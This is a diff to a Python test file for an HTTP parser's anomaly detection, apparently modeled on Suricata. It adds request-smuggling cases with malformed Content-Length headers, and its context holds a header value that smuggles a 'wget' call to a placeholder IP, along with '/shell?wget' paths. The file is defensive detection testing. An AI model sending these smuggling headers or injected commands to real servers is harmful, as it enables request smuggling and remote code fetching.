@@ -63,6 +63,9 @@ def _post(length_headers: bytes, body: bytes):
     (b"Transfer-Encoding: chunked, identity\r\n", {SMUGGLING}, [b"/form"]),
     (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", {SMUGGLING}, [b"/form"]),
     (b"Transfer-Encoding: Chunked\r\n", set(), [b"/form"]),
+    # a name a server may or may not take for Content-Length
+    (b"Content-Length : %d\r\n" % len(HIDDEN), {SMUGGLING}, [b"/form"]),
+    (b"Content-Length\x00: 0\r\n", {SMUGGLING}, [b"/form", b"/shell?wget"]),
     (b"Content-Length: +0\r\n", {SMUGGLING}, [b"/form", b"/shell?wget"]),
     (b"Content-Length: 0x10\r\n", {SMUGGLING}, [b"/form", b"/shell?wget"]),
     (b"Content-Length: 0\r\n 5\r\n", {SMUGGLING}, [b"/form", b"/shell?wget"]),     # folded
@@ -116,3 +119,17 @@ def test_header_line_without_colon_stays_inspectable():
     txs = parser.feed(b"GET / HTTP/1.1\r\nHost: a\r\nX-Cmd ;wget 198.51.100.9\r\n\r\n", True)
     assert "http.request_field_missing_colon" in txs[0].events
     assert b": X-Cmd ;wget 198.51.100.9\r\n" in txs[0].buffers["http.header"]
+
+
+@pytest.mark.parametrize("line, invalid", [
+    (b"X-Ok: 1", False),
+    (b"X-Ok : 1", True),          # blanks before the colon
+    (b"X Y: 1", True),            # not a token
+    (b": 1", True),               # empty name
+    (b"X\x00: 1", True),
+])
+def test_malformed_header_name_is_suricatas_request_header_invalid(line, invalid):
+    parser = HttpParser()
+    txs = parser.feed(b"GET / HTTP/1.1\r\nHost: a\r\n" + line + b"\r\n\r\n", True)
+    assert ("http.request_header_invalid" in txs[0].events) is invalid
+    assert "http.request_smuggling" not in txs[0].events
